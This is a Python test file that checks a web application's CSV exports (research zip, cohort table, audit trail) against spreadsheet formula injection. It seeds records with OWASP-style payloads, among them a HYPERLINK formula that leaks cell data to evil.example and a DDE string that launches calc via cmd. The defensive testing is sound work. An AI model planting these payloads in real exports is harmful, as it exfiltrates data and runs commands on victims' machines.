"""The CSV files the server hands out carry formula payloads typed by staff as inert text.

Episode fields and a username hold OWASP's payloads; every CSV of every export route is read
back with Python's csv module: no cell may start a spreadsheet formula and a bare carriage
return may not split a row.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from alliance.web import actions
from alliance.web.models import Episode, Role
from tests.web.conftest import World, api_client, make_user

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CONDITION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
BODY_REGION = "-3+2"
SETTING = "@SUM(1+1)\r=cmd|' /C calc'!A0"
USERNAME = "=admin\tname\rwith a carriage return"


def rows_of(text: str) -> list[list[str]]:
    """The rows of ``text`` as a spreadsheet-minded reader sees them, every row as wide as
    the header (a bare carriage return that ends a row early fails here)."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        assert len(row) == len(rows[0]), row
    return rows


def assert_inert(text: str) -> list[str]:
    """Every cell of the CSV ``text``; none begins a formula (numbers aside)."""
    cells = [cell for row in rows_of(text) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # only a plain number, such as -3.5, may start with a sign
    return cells


@pytest.fixture
def hostile(world: World) -> World:
    Episode.objects.filter(pk=world.episode.pk).update(
        condition=CONDITION, body_region=BODY_REGION, setting=SETTING
    )
    actions.record_assessment(
        world.visit, {"checkin": {"q1": 5, "q2": 6, "q3": 7, "q4": 8}}, by=world.owner
    )
    return world


def _csv_files(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".csv")}


def test_it_writes_episode_fields_of_the_identifiable_research_files_as_text(
    hostile: World,
) -> None:
    response = api_client(hostile.admin).get("/api/export/research.zip?identifiable=true")
    assert response.status_code == 200
    cells = assert_inert(_csv_files(response.content)["episodes.csv"])
    assert {"'" + CONDITION, "'" + BODY_REGION, "'" + SETTING} <= set(cells)


def test_it_writes_the_cohort_table_as_text_to_whoever_may_have_it(hostile: World) -> None:
    served = []
    for user in (hostile.owner, hostile.researcher, hostile.lead, hostile.admin):
        response = api_client(user).get("/api/export/cohort.csv")
        if response.status_code == 200:
            served += assert_inert(response.content.decode())
    assert served  # de-identified: the free-text episode fields go out as "other"


def test_it_writes_the_audit_trail_as_text(hostile: World) -> None:
    exporter = make_user(hostile.clinic, USERNAME, Role.ADMIN)
    assert api_client(exporter).get("/api/export/research.zip").status_code == 200
    response = api_client(hostile.admin).get("/api/audit/events.csv")
    assert response.status_code == 200
    assert "'" + USERNAME in assert_inert(response.content.decode())
